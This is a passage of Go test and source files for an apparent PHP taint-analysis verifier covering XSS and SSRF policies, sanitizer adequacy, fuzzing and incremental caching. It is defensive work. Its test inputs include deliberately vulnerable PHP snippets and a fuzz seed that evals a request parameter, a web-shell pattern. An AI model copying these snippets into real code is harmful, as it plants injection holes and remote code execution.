	if code := run([]string{"file.php"}, nil); code != 2 {
		t.Fatalf("positional args exited %d, want 2", code)
	}
}

// TestIncrementalNeedsStore pins the flag-validation contract.
func TestIncrementalNeedsStore(t *testing.T) {
	if code := run([]string{"-incremental"}, nil); code != 2 {
		t.Fatalf("-incremental without -store exited %d, want 2", code)
	}
}
