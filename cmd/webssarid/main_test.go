package main

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"path/filepath"
	"regexp"
	"strconv"
	"syscall"
	"testing"
	"time"
)

// startDaemon runs the daemon body in-process on an ephemeral port and
// returns its base URL and the exit-code channel.
func startDaemon(t *testing.T, extra ...string) (string, <-chan int) {
	t.Helper()
	ready := make(chan string, 1)
	exit := make(chan int, 1)
	args := append([]string{"-addr", "127.0.0.1:0"}, extra...)
	go func() { exit <- run(args, ready) }()
	select {
	case addr := <-ready:
		return "http://" + addr, exit
	case code := <-exit:
		t.Fatalf("daemon exited before binding: %d", code)
	case <-time.After(10 * time.Second):
		t.Fatal("daemon did not bind")
	}
	return "", nil
}

func postJSON(t *testing.T, url string, body any) (int, map[string]any) {
	t.Helper()
	data, err := json.Marshal(body)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.Post(url, "application/json", bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var out map[string]any
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
		t.Fatalf("decoding response: %v", err)
	}
	return resp.StatusCode, out
}

func getJSON(t *testing.T, url string) map[string]any {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var out map[string]any
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
		t.Fatalf("decoding %s: %v", url, err)
	}
	return out
}

// submitDirAndWait submits a directory job and polls it to completion.
func submitDirAndWait(t *testing.T, base, dir string) string {
	t.Helper()
	code, sub := postJSON(t, base+"/v1/dirs", map[string]string{"dir": dir})
	if code != http.StatusAccepted {
		t.Fatalf("submit dir: HTTP %d (%v)", code, sub)
	}
	id := sub["job"].(string)
	deadline := time.Now().Add(60 * time.Second)
	for time.Now().Before(deadline) {
		st := getJSON(t, base+"/v1/jobs/"+id)
		switch st["state"] {
		case "done":
			return id
		case "failed":
			t.Fatalf("job failed: %v", st["error"])
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Fatal("job did not finish")
	return ""
}

// stripProfiles removes every nondeterministic "profile" object (and the
// run-relative store/cache counters) from a decoded report tree.
func stripProfiles(v any) any {
	switch node := v.(type) {
	case map[string]any:
		delete(node, "profile")
		delete(node, "store_hits")
		delete(node, "store_misses")
		delete(node, "cache_hits")
		delete(node, "cache_misses")
		for k, child := range node {
			node[k] = stripProfiles(child)
		}
	case []any:
		for i, child := range node {
			node[i] = stripProfiles(child)
		}
	}
	return v
}

// TestDaemonEndToEnd is the acceptance path: the daemon verifies the
// examples/php corpus twice against a persistent store; the second run
// is served from disk (visible on /metrics) with byte-identical
// verdicts, and SIGTERM drains in-flight work before exit.
func TestDaemonEndToEnd(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end daemon test")
	}
	storeDir := t.TempDir()
	base, exit := startDaemon(t, "-store", storeDir, "-grace", "60s")
	examples, err := filepath.Abs(filepath.Join("..", "..", "examples", "php"))
	if err != nil {
		t.Fatal(err)
	}

	id1 := submitDirAndWait(t, base, examples)
	id2 := submitDirAndWait(t, base, examples)

	// The corpus has deliberate vulnerabilities: both runs say unsafe.
	res1 := getJSON(t, base+"/v1/jobs/"+id1+"/result")
	res2 := getJSON(t, base+"/v1/jobs/"+id2+"/result")
	rep1 := res1["report"].(map[string]any)
	rep2 := res2["report"].(map[string]any)
	if rep1["vulnerable_files"].(float64) == 0 {
		t.Fatalf("examples corpus reported no vulnerable files: %v", rep1)
	}

	// Byte-identical verdicts once profiles are stripped.
	j1, err := json.Marshal(stripProfiles(rep1))
	if err != nil {
		t.Fatal(err)
	}
	j2, err := json.Marshal(stripProfiles(rep2))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(j1, j2) {
		t.Fatalf("store-served report diverged from computed one:\n%s\nvs\n%s", j1, j2)
	}

	// The second run was served from the persistent store.
	hits := scrapeMetric(t, base+"/metrics", "webssari_store_hits_total")
	if hits < 1 {
		t.Fatalf("store hits after resubmission = %d, want >= 1", hits)
	}

	// SIGTERM with a job in flight: the daemon drains it and exits 0.
	code, sub := postJSON(t, base+"/v1/dirs", map[string]string{"dir": examples})
	if code != http.StatusAccepted {
		t.Fatalf("pre-shutdown submit: HTTP %d", code)
	}
	lastID := sub["job"].(string)
	if err := syscall.Kill(syscall.Getpid(), syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	select {
	case code := <-exit:
		if code != 0 {
			t.Fatalf("daemon exited %d after SIGTERM, want 0 (clean drain)", code)
		}
	case <-time.After(90 * time.Second):
		t.Fatal("daemon did not exit after SIGTERM")
	}
	_ = lastID // drained to completion by the exit-0 contract
}

// scrapeMetric fetches a Prometheus page and returns one series' value.
func scrapeMetric(t *testing.T, url, name string) int64 {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	page, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	re := regexp.MustCompile(`(?m)^` + regexp.QuoteMeta(name) + ` (\d+)$`)
	m := re.FindSubmatch(page)
	if m == nil {
		t.Fatalf("metric %s absent from %s:\n%s", name, url, page)
	}
	v, err := strconv.ParseInt(string(m[1]), 10, 64)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// TestDaemonStorePersistsAcrossRestart restarts the daemon over the same
// store root: the warm instance answers from disk.
func TestDaemonStorePersistsAcrossRestart(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end daemon test")
	}
	storeDir := t.TempDir()
	examples, err := filepath.Abs(filepath.Join("..", "..", "examples", "php"))
	if err != nil {
		t.Fatal(err)
	}

	base, exit := startDaemon(t, "-store", storeDir)
	submitDirAndWait(t, base, examples)
	if err := syscall.Kill(syscall.Getpid(), syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if code := <-exit; code != 0 {
		t.Fatalf("first daemon exited %d", code)
	}

	base, exit = startDaemon(t, "-store", storeDir)
	submitDirAndWait(t, base, examples)
	if hits := scrapeMetric(t, base+"/metrics", "webssari_store_hits_total"); hits < 1 {
		t.Fatalf("restarted daemon store hits = %d, want >= 1", hits)
	}
	if err := syscall.Kill(syscall.Getpid(), syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if code := <-exit; code != 0 {
		t.Fatalf("second daemon exited %d", code)
	}
}

// TestVersionFlag checks -version prints a banner and exits 0.
func TestVersionFlag(t *testing.T) {
	if code := run([]string{"-version"}, nil); code != 0 {
		t.Fatalf("-version exited %d", code)
	}
}

// TestRejectsPositionalArgs pins the usage contract.
func TestRejectsPositionalArgs(t *testing.T) {
	if code := run([]string{"file.php"}, nil); code != 2 {
		t.Fatalf("positional args exited %d, want 2", code)
	}
}
