package webssari_test

// End-to-end tests for the security-policy subsystem: the bundled
// SSRF and context-XSS example workloads, the per-context sanitizer
// adequacy matrix, the context-aware patcher, policy JSON loading, and
// the report-level byte-identity of the default policy.

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"webssari"
)

func readExample(t *testing.T, name string) []byte {
	t.Helper()
	src, err := os.ReadFile(filepath.Join("examples", "php", name))
	if err != nil {
		t.Fatal(err)
	}
	return src
}

// TestPolicyExamplesGolden locks the verdicts and report lines of the
// bundled policy workloads: each positive example is flagged with the
// exact class, context, and location, each _safe sibling verifies, and
// the context-blind default policy misses all of them (that blindness
// is the point of the examples).
func TestPolicyExamplesGolden(t *testing.T) {
	cases := []struct {
		file     string
		policy   string
		safe     bool
		symptoms int
		lines    []string
	}{
		{"widget.php", "xss-context", false, 2, []string{
			"* cross-site scripting (XSS) via echo [attr] at examples/php/widget.php:9:1",
			"* cross-site scripting (XSS) via echo [js] at examples/php/widget.php:10:1",
			"$name becomes escaped",
		}},
		{"widget_safe.php", "xss-context", true, 0, nil},
		{"fetch.php", "ssrf", false, 1, []string{
			"* server-side request forgery (SSRF) via file_get_contents at examples/php/fetch.php:6:9",
		}},
		{"fetch_safe.php", "ssrf", true, 0, nil},
		// The default policy is context-blind and has no SSRF sinks:
		// both positives sail through it.
		{"widget.php", "default", true, 0, nil},
		{"fetch.php", "default", true, 0, nil},
	}
	for _, tc := range cases {
		t.Run(tc.policy+"/"+tc.file, func(t *testing.T) {
			src := readExample(t, tc.file)
			rep, err := webssari.Verify(src, "examples/php/"+tc.file,
				webssari.WithPolicy(tc.policy))
			if err != nil {
				t.Fatalf("Verify: %v", err)
			}
			if rep.Safe != tc.safe || rep.Symptoms != tc.symptoms {
				t.Fatalf("safe=%v symptoms=%d, want safe=%v symptoms=%d\n%s",
					rep.Safe, rep.Symptoms, tc.safe, tc.symptoms, rep.Text)
			}
			for _, line := range tc.lines {
				if !strings.Contains(rep.Text, line) {
					t.Errorf("report lacks %q\n%s", line, rep.Text)
				}
			}
		})
	}
}

// TestSanitizerAdequacyMatrix is the per-context adequacy table: each
// sanitizer yields a safety type, each HTML output context demands one,
// and the verdict is exactly their lattice comparison. One generated
// source per (sanitizer, context) cell.
func TestSanitizerAdequacyMatrix(t *testing.T) {
	sanitizers := []struct {
		label string
		expr  string // applied to $_GET['a']
		// adequacy per context, keyed by the contexts slice below
		safe map[string]bool
	}{
		{"raw", `$_GET['a']`,
			map[string]bool{"html": false, "attr": false, "js": false}},
		{"escaped", `htmlspecialchars($_GET['a'])`,
			map[string]bool{"html": true, "attr": false, "js": false}},
		{"quoted", `htmlspecialchars($_GET['a'], ENT_QUOTES)`,
			map[string]bool{"html": true, "attr": true, "js": false}},
		{"urlencoded", `urlencode($_GET['a'])`,
			map[string]bool{"html": true, "attr": true, "js": false}},
		{"untainted", `intval($_GET['a'])`,
			map[string]bool{"html": true, "attr": true, "js": true}},
	}
	contexts := []struct {
		name string
		tmpl string // echo statement embedding $x
	}{
		{"html", `echo "<p>$x</p>";`},
		{"attr", `echo "<input value='$x'>";`},
		{"js", `echo "<script>var v = '$x';</script>";`},
	}
	for _, san := range sanitizers {
		for _, ctx := range contexts {
			t.Run(san.label+"/"+ctx.name, func(t *testing.T) {
				src := fmt.Sprintf("<?php\n$x = %s;\n%s\n", san.expr, ctx.tmpl)
				rep, err := webssari.Verify([]byte(src), "matrix.php",
					webssari.WithPolicy("xss-context"))
				if err != nil {
					t.Fatalf("Verify: %v", err)
				}
				if want := san.safe[ctx.name]; rep.Safe != want {
					t.Errorf("safe=%v, want %v\nsource:\n%s\n%s",
						rep.Safe, want, src, rep.Text)
				}
			})
		}
	}
}

// TestPolicyPatchGolden locks the context-aware patcher: the selected
// guard is the context-preferred routine strong enough for every
// violated context, and the patched source re-verifies under the same
// policy.
func TestPolicyPatchGolden(t *testing.T) {
	cases := []struct {
		file   string
		policy string
		want   string // guard wrap the patch must contain
	}{
		// widget.php violates attr and js: quoted output (websafe_attr)
		// is inadequate for the script element, so the patcher escalates
		// to websafe_js for the shared fix point.
		{"widget.php", "xss-context", `$name = websafe_js(htmlspecialchars($_GET['name']));`},
		{"fetch.php", "ssrf", `$url = websafe_url($_GET['feed']);`},
	}
	for _, tc := range cases {
		t.Run(tc.policy+"/"+tc.file, func(t *testing.T) {
			src := readExample(t, tc.file)
			patched, rep, err := webssari.Patch(src, "examples/php/"+tc.file,
				webssari.WithPolicy(tc.policy))
			if err != nil {
				t.Fatalf("Patch: %v", err)
			}
			if rep.Safe {
				t.Fatalf("positive example verified safe; nothing to patch")
			}
			if !strings.Contains(string(patched), tc.want) {
				t.Fatalf("patched source lacks %q:\n%s", tc.want, patched)
			}
			rerep, err := webssari.Verify(patched, "patched.php",
				webssari.WithPolicy(tc.policy))
			if err != nil {
				t.Fatalf("re-verify: %v", err)
			}
			if !rerep.Safe {
				t.Fatalf("patched source still unsafe:\n%s", rerep.Text)
			}
		})
	}
}

// TestPolicyJSONLoading exercises the JSON loading path end to end: a
// custom minimal SSRF-style policy (the README walkthrough's example)
// loaded from bytes detects the positive and passes the sanitized one.
func TestPolicyJSONLoading(t *testing.T) {
	decl := []byte(`{
		"name": "my-ssrf",
		"lattice": ["untainted", "tainted"],
		"vars": [{"name": "_GET", "type": "tainted"}],
		"sinks": [{"name": "file_get_contents", "bound": "tainted", "args": [1],
			"class": "server-side request forgery (SSRF)"}],
		"sanitizers": [{"name": "websafe_url", "type": "untainted"}],
		"guards": [{"routine": "websafe_url", "type": "untainted"}]
	}`)
	rep, err := webssari.Verify(readExample(t, "fetch.php"), "fetch.php",
		webssari.WithPolicyJSON("my-ssrf", decl))
	if err != nil {
		t.Fatalf("Verify: %v", err)
	}
	if rep.Safe {
		t.Fatal("custom policy missed the SSRF positive")
	}
	if !strings.Contains(rep.Text, "server-side request forgery (SSRF) via file_get_contents") {
		t.Errorf("report lacks the declared class:\n%s", rep.Text)
	}
	rep, err = webssari.Verify(readExample(t, "fetch_safe.php"), "fetch_safe.php",
		webssari.WithPolicyJSON("my-ssrf", decl))
	if err != nil {
		t.Fatalf("Verify: %v", err)
	}
	if !rep.Safe {
		t.Fatalf("custom policy flagged the sanitized sibling:\n%s", rep.Text)
	}

	if _, err := webssari.Verify([]byte("<?php ?>"), "x.php",
		webssari.WithPolicyJSON("bad", []byte(`{"name":"bad"}`))); err == nil {
		t.Error("invalid policy JSON accepted")
	}
}

// TestPolicyKeysCaches asserts the policy fingerprint partitions both
// caching tiers: runs under different policies must never share a
// compiled program or a stored verdict, even for identical source.
func TestPolicyKeysCaches(t *testing.T) {
	src := readExample(t, "fetch.php")

	webssari.ResetCompileCache()
	if _, err := webssari.Verify(src, "fetch.php"); err != nil {
		t.Fatal(err)
	}
	if _, err := webssari.Verify(src, "fetch.php", webssari.WithPolicy("ssrf")); err != nil {
		t.Fatal(err)
	}
	if hits, misses := webssari.CompileCacheStats(); hits != 0 || misses != 2 {
		t.Fatalf("distinct policies shared a compile-cache entry: %d hits / %d misses, want 0/2", hits, misses)
	}
	rep, err := webssari.Verify(src, "fetch.php", webssari.WithPolicy("ssrf"))
	if err != nil {
		t.Fatal(err)
	}
	if !rep.CacheHit {
		t.Fatal("identical (source, policy) pair missed the compile cache")
	}

	s, err := webssari.OpenStore(t.TempDir(), 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := webssari.Verify(src, "fetch.php", webssari.WithStore(s)); err != nil {
		t.Fatal(err)
	}
	rep, err = webssari.Verify(src, "fetch.php", webssari.WithStore(s),
		webssari.WithPolicy("ssrf"))
	if err != nil {
		t.Fatal(err)
	}
	if rep.StoreHit {
		t.Fatal("a different policy was served the stored verdict")
	}
	if rep.Safe {
		t.Fatal("ssrf run behind the store missed the finding")
	}
}

// TestDefaultPolicyReportByteIdentical asserts the compatibility
// guarantee at the outermost layer: over every bundled example, a run
// under WithPolicy("default") renders the byte-identical report text a
// policy-free run does.
func TestDefaultPolicyReportByteIdentical(t *testing.T) {
	dir := filepath.Join("examples", "php")
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if e.IsDir() || filepath.Ext(e.Name()) != ".php" {
			continue
		}
		name := e.Name()
		t.Run(name, func(t *testing.T) {
			src := readExample(t, name)
			bare, err := webssari.Verify(src, name, webssari.WithDir(dir))
			if err != nil {
				t.Fatalf("Verify: %v", err)
			}
			pol, err := webssari.Verify(src, name, webssari.WithDir(dir),
				webssari.WithPolicy("default"))
			if err != nil {
				t.Fatalf("Verify with default policy: %v", err)
			}
			if bare.Text != pol.Text {
				t.Errorf("report text diverged under default policy:\n--- bare ---\n%s\n--- policy ---\n%s",
					bare.Text, pol.Text)
			}
			if bare.Verdict != pol.Verdict || bare.Symptoms != pol.Symptoms || bare.Groups != pol.Groups {
				t.Errorf("verdict diverged: bare %s/%d/%d vs policy %s/%d/%d",
					bare.Verdict, bare.Symptoms, bare.Groups,
					pol.Verdict, pol.Symptoms, pol.Groups)
			}
		})
	}
}
