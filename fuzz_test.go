package webssari_test

import (
	"testing"
	"time"

	"webssari"
)

// FuzzVerify drives the whole pipeline on arbitrary bytes under tight
// resource limits. The invariants: no panic ever escapes (faults come
// back as *EngineError values), and any report produced is internally
// consistent — Safe and Incomplete are mutually exclusive, and the
// verdict matches the flags.
func FuzzVerify(f *testing.F) {
	f.Add([]byte(`<?php echo $_GET['x'];`))
	f.Add([]byte(`<?php $x = $_POST['a']; if ($x) { $x = htmlspecialchars($x); } echo $x;`))
	f.Add([]byte(`<?php include 'lib.php'; mysql_query("SELECT $q");`))
	f.Add([]byte(`<?php function f($a) { return $a; } echo f($_GET['x']);`))
	f.Add([]byte(`<?php while ($i < 3) { $i = $i + 1; echo htmlspecialchars($s); }`))
	f.Add([]byte(`<?php $x = ; } } if (`))
	f.Add([]byte("<?php\x00$x=$_GET[1];echo $x;"))
	f.Add([]byte(`no php here at all`))
	f.Add([]byte(`<?php $$v = $_GET['x']; echo $$v;`))
	f.Add([]byte(`<?php eval($_REQUEST['c']); exit;`))

	limits := webssari.WithResourceLimits(webssari.ResourceLimits{
		MaxStatements: 2000,
		MaxCNFVars:    50_000,
		MaxCNFClauses: 200_000,
	})
	f.Fuzz(func(t *testing.T, src []byte) {
		start := time.Now()
		rep, err := webssari.Verify(src, "fuzz.php", limits,
			webssari.WithDeadline(2*time.Second),
			webssari.WithBudget(200), webssari.WithMaxCounterexamples(16))
		if elapsed := time.Since(start); elapsed > 10*time.Second {
			t.Fatalf("verification ran %v despite a 2s deadline: %q", elapsed, src)
		}
		if err != nil {
			return // structured failure is fine; a panic would have crashed
		}
		if rep == nil {
			t.Fatal("nil report with nil error")
		}
		if rep.Safe && rep.Incomplete {
			t.Fatalf("report both Safe and Incomplete: %+v", rep)
		}
		switch rep.Verdict {
		case webssari.VerdictSafe:
			if !rep.Safe || rep.Incomplete || len(rep.Findings) > 0 {
				t.Fatalf("safe verdict inconsistent: Safe=%v Incomplete=%v findings=%d",
					rep.Safe, rep.Incomplete, len(rep.Findings))
			}
		case webssari.VerdictUnsafe:
			if rep.Safe {
				t.Fatalf("unsafe verdict on a Safe report: %+v", rep)
			}
		case webssari.VerdictIncomplete:
			if !rep.Incomplete || len(rep.Limits) == 0 {
				t.Fatalf("incomplete verdict without causes: %+v", rep)
			}
		default:
			t.Fatalf("unknown verdict %q", rep.Verdict)
		}
	})
}
