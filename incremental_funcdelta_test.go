package webssari_test

import (
	"bytes"
	"testing"

	"webssari"
	"webssari/internal/telemetry"
)

// TestIncrementalFunctionLevelReuse pins the function-level delta inside
// the file-level delta: editing one function re-verifies only the
// assertions whose constraint slice touches it; assertions proved safe
// earlier whose check fingerprint is unchanged are served without a SAT
// search. CI runs this by name to assert the delta actually shrinks.
func TestIncrementalFunctionLevelReuse(t *testing.T) {
	dir := t.TempDir()
	const before = `<?php
function head($x) { echo htmlspecialchars($x); }
head($_GET['a']);
function tail($y) { echo htmlspecialchars($y); }
tail($_GET['b']);
`
	// The edit stays inside tail's body and after head's assertion in
	// command order, so head's constraint slice is untouched. Routing the
	// sanitized value through a local changes tail's equations (a new SSA
	// variable), not just its source text — a purely cosmetic edit would
	// leave both check fingerprints equal and both assertions reusable.
	const after = `<?php
function head($x) { echo htmlspecialchars($x); }
head($_GET['a']);
function tail($y) { $t = htmlspecialchars($y); echo $t; }
tail($_GET['b']);
`
	writeFile(t, dir, "page.php", before)
	opts, tel := incrementalOpts(t)

	pr1, err := webssari.VerifyDir(dir, opts...)
	if err != nil {
		t.Fatal(err)
	}
	inc1 := incProfile(t, pr1)
	if inc1.ReusedAsserts != 0 {
		t.Fatalf("cold run reused %d asserts, want 0", inc1.ReusedAsserts)
	}
	if len(pr1.Files) != 1 || !pr1.Files[0].Safe {
		t.Fatalf("cold run: %+v, want one safe file", pr1.Files)
	}
	checkedCold := tel.Metrics.Counter(telemetry.MetricAssertionsChecked).Value()
	if checkedCold < 2 {
		t.Fatalf("cold run checked %d assertions, want >= 2", checkedCold)
	}

	writeFile(t, dir, "page.php", after)
	pr2, err := webssari.VerifyDir(dir, opts...)
	if err != nil {
		t.Fatal(err)
	}
	inc2 := incProfile(t, pr2)
	if inc2.Planned != 1 {
		t.Fatalf("edited run planned %d files, want 1: %+v", inc2.Planned, inc2)
	}
	// head's assertion is fingerprint-identical and was proved safe, so
	// it must be reused; tail's assertion changed and must be re-solved.
	if inc2.ReusedAsserts != 1 {
		t.Fatalf("edited run reused %d asserts, want exactly 1 (head): %+v",
			inc2.ReusedAsserts, inc2)
	}
	if len(pr2.Files) != 1 || !pr2.Files[0].Safe {
		t.Fatalf("edited run: %+v, want one safe file", pr2.Files)
	}
	if got := tel.Metrics.Counter(telemetry.MetricIncrementalReusedAsserts).Value(); got != 1 {
		t.Fatalf("reused-asserts metric = %d, want 1", got)
	}

	// The reused verdict must be indistinguishable from a recomputed one:
	// a cold run over the edited tree agrees byte for byte (profiles and
	// run-relative counters stripped).
	coldOpts, _ := incrementalOpts(t)
	prCold, err := webssari.VerifyDir(dir, coldOpts...)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(marshalProjectStripped(t, pr2), marshalProjectStripped(t, prCold)) {
		t.Fatal("reuse-assisted report diverged from a cold recomputation")
	}

	// Editing head instead reuses nothing: head's own fingerprint changes,
	// and tail's check fingerprint covers its whole constraint prefix —
	// which includes head's inlined equations. The function-level delta is
	// deliberately prefix-asymmetric; this is the conservative direction.
	writeFile(t, dir, "page.php", `<?php
function head($x) { $h = htmlspecialchars($x); echo $h; }
head($_GET['a']);
function tail($y) { $t = htmlspecialchars($y); echo $t; }
tail($_GET['b']);
`)
	pr3, err := webssari.VerifyDir(dir, opts...)
	if err != nil {
		t.Fatal(err)
	}
	inc3 := incProfile(t, pr3)
	if inc3.ReusedAsserts != 0 {
		t.Fatalf("editing the first function reused %d asserts, want 0: %+v", inc3.ReusedAsserts, inc3)
	}
	if len(pr3.Files) != 1 || !pr3.Files[0].Safe {
		t.Fatalf("head-edited run: %+v, want one safe file", pr3.Files)
	}
}

// TestIncrementalReuseSkippedForUnsafeAsserts pins soundness: only
// assertions proved safe are reusable; violations are always re-derived
// so counterexamples stay fresh.
func TestIncrementalReuseSkippedForUnsafeAsserts(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "bad.php", `<?php
function render($x) { echo $x; }
render($_GET['a']);
function safe($y) { echo htmlspecialchars($y); }
safe($_GET['b']);
`)
	opts, _ := incrementalOpts(t)
	pr1, err := webssari.VerifyDir(dir, opts...)
	if err != nil {
		t.Fatal(err)
	}
	if pr1.Files[0].Safe {
		t.Fatal("corpus is broken: expected a violation")
	}

	// Touch the file (whitespace shifts positions but no fingerprint
	// changes) to force a re-verification pass over it.
	writeFile(t, dir, "bad.php", `<?php

function render($x) { echo $x; }
render($_GET['a']);
function safe($y) { echo htmlspecialchars($y); }
safe($_GET['b']);
`)
	pr2, err := webssari.VerifyDir(dir, opts...)
	if err != nil {
		t.Fatal(err)
	}
	inc2 := incProfile(t, pr2)
	if inc2.Planned != 1 {
		t.Fatalf("planned %d, want 1", inc2.Planned)
	}
	// safe()'s assertion is reused; render()'s violation is re-derived
	// with real counterexamples.
	if inc2.ReusedAsserts != 1 {
		t.Fatalf("reused %d asserts, want 1 (only the safe one)", inc2.ReusedAsserts)
	}
	if pr2.Files[0].Safe {
		t.Fatal("violation disappeared after reuse")
	}
	if len(pr2.Files[0].Findings) == 0 {
		t.Fatal("re-verified violation carries no findings")
	}
}
