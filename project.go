package webssari

import (
	"context"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"time"

	"webssari/internal/core"
	"webssari/internal/incremental"
	"webssari/internal/store"
	"webssari/internal/telemetry"
)

// FileFailure records one file whose analysis could not produce a report
// at all. Files that produced a degraded report (deadline, resource
// ceiling) are not failures — they appear in Files with
// VerdictIncomplete.
type FileFailure struct {
	// File is the entry file that failed.
	File string `json:"file"`
	// Stage names the pipeline stage that failed ("read", "walk",
	// "deadline", or an EngineError stage).
	Stage string `json:"stage"`
	// Cause is the human-readable failure cause.
	Cause string `json:"cause"`
}

// ProjectReport aggregates the verification of a whole PHP project — the
// unit the paper's §5 evaluation counts by.
type ProjectReport struct {
	// Dir is the project root.
	Dir string `json:"dir"`
	// Files holds one report per PHP entry file, sorted by path.
	Files []*Report `json:"files"`
	// Symptoms is the project-wide TS error count (Figure 10 "TS").
	Symptoms int `json:"symptoms"`
	// Groups is the project-wide error-introduction count (Figure 10 "BMC").
	Groups int `json:"groups"`
	// VulnerableFiles counts files with at least one finding.
	VulnerableFiles int `json:"vulnerable_files"`
	// IncompleteFiles counts files whose report is degraded (no finding,
	// but no Safe proof either).
	IncompleteFiles int `json:"incomplete_files"`
	// Failures records files whose analysis failed outright; the
	// remaining files are still verified and reported.
	Failures []FileFailure `json:"failures,omitempty"`
	// CacheHits and CacheMisses count how many files' front ends were
	// served from the compile cache vs compiled fresh during this run.
	// With a cold cache the counts are deterministic at any parallelism
	// (concurrent compiles of identical content coalesce). Files served
	// whole from the result store never reach the compile cache and are
	// counted in neither.
	CacheHits   int `json:"cache_hits"`
	CacheMisses int `json:"cache_misses"`
	// StoreHits and StoreMisses count files served from / written
	// through the persistent result store (tier 2); both stay zero when
	// no store is attached (WithStore).
	StoreHits   int `json:"store_hits,omitempty"`
	StoreMisses int `json:"store_misses,omitempty"`
	// Profile aggregates the per-file run profiles (wall times, stages,
	// solver effort, degradations) and adds the project-level cache and
	// worker-pool sections. Like the per-file profiles, its wall-clock
	// fields are the one nondeterministic part of the report.
	Profile *RunProfile `json:"profile,omitempty"`
	// CompileWall and SolveWall are views over Profile: the summed
	// per-file stage wall-clock times. Excluded from JSON — the same
	// values marshal under "profile".
	CompileWall time.Duration `json:"-"`
	SolveWall   time.Duration `json:"-"`
}

// Safe reports whether every file verified safe: no vulnerable files, no
// incomplete files, and no failures. A project with unverified parts is
// never Safe.
func (p *ProjectReport) Safe() bool {
	return p.VulnerableFiles == 0 && p.IncompleteFiles == 0 && len(p.Failures) == 0
}

// Verdict classifies the project outcome: VerdictUnsafe when any file has
// a finding; otherwise VerdictIncomplete when any file degraded or
// failed; otherwise VerdictSafe.
func (p *ProjectReport) Verdict() string {
	switch {
	case p.VulnerableFiles > 0:
		return VerdictUnsafe
	case p.IncompleteFiles > 0 || len(p.Failures) > 0:
		return VerdictIncomplete
	default:
		return VerdictSafe
	}
}

// VerifyDir verifies every .php file under dir as an entry file, resolving
// includes relative to each file (falling back to dir), and aggregates the
// per-project counts the paper's evaluation reports.
func VerifyDir(dir string, opts ...Option) (*ProjectReport, error) {
	return VerifyDirContext(context.Background(), dir, opts...)
}

// VerifyDirContext is VerifyDir under a context. Analysis faults are
// isolated per file: an unreadable or pathological file is recorded in
// ProjectReport.Failures and every other file is still verified. The
// only non-nil error is failing to walk the root directory itself. A
// WithDeadline budget applies to each file separately; ctx cancellation
// stops the dispatch and records the unstarted files as failures.
//
// Files are verified concurrently on a bounded worker pool
// (WithParallelism, default GOMAXPROCS); each file's front end comes from
// the process-wide compile cache and its assertions fan out across the
// same pool. The report is identical at any parallelism: every file's
// analysis is deterministic and results are assembled in sorted file
// order.
func VerifyDirContext(ctx context.Context, dir string, opts ...Option) (*ProjectReport, error) {
	snap, walkFails, err := snapshotDir(dir)
	if err != nil {
		return nil, fmt.Errorf("webssari: walking %s: %w", dir, err)
	}
	if cfg, err := buildConfig(opts); err == nil && cfg.incremental && cfg.resultStore != nil {
		return verifyDirIncremental(ctx, dir, snap, walkFails, opts, cfg)
	}
	return verifyDirFiles(ctx, dir, snap, walkFails, nil, opts)
}

// snapshotDir walks dir collecting every .php entry file's stat
// fingerprint (path, size, mtime), sorted by path — the input both to
// plain project verification (which uses only the paths) and to the
// incremental delta planner (which uses the fingerprints). Unwalkable
// subtrees are recorded as failures; only an unwalkable root is fatal.
func snapshotDir(dir string) (incremental.Snapshot, []FileFailure, error) {
	var snap incremental.Snapshot
	var fails []FileFailure
	rootSeen := false
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			if !rootSeen {
				return err // the root itself is unwalkable: fatal
			}
			fails = append(fails, FileFailure{File: path, Stage: "walk", Cause: err.Error()})
			return nil
		}
		rootSeen = true
		if !d.IsDir() && strings.HasSuffix(strings.ToLower(d.Name()), ".php") {
			fm := incremental.FileMeta{Path: path}
			if info, ierr := d.Info(); ierr == nil {
				fm.Size = info.Size()
				fm.MTimeNS = info.ModTime().UnixNano()
			}
			snap.Files = append(snap.Files, fm)
		}
		return nil
	})
	if err != nil {
		return incremental.Snapshot{}, nil, err
	}
	sort.Slice(snap.Files, func(i, j int) bool { return snap.Files[i].Path < snap.Files[j].Path })
	return snap, fails, nil
}

// SnapshotFingerprint returns a fingerprint of dir's PHP entry files —
// paths, sizes, and mtimes, nothing content-based — that changes
// whenever a file under dir is added, removed, or modified. It is cheap
// (one stat walk, no reads) and is what the webssarid watch mode polls
// to decide when to re-verify; a fingerprint match does not prove
// content equality (mtime granularity), only a mismatch is meaningful.
func SnapshotFingerprint(dir string) (string, error) {
	snap, _, err := snapshotDir(dir)
	if err != nil {
		return "", err
	}
	parts := make([]string, 0, len(snap.Files))
	for _, fm := range snap.Files {
		parts = append(parts, fmt.Sprintf("%s|%d|%d", fm.Path, fm.Size, fm.MTimeNS))
	}
	return store.Key(append([]string{"webssari-snapshot-v1"}, parts...)...), nil
}

// verifyDirFiles verifies a snapshot's files on the worker pool and
// assembles the project report. Files present in served were already
// resolved by the caller (the incremental reuse path) and are stamped
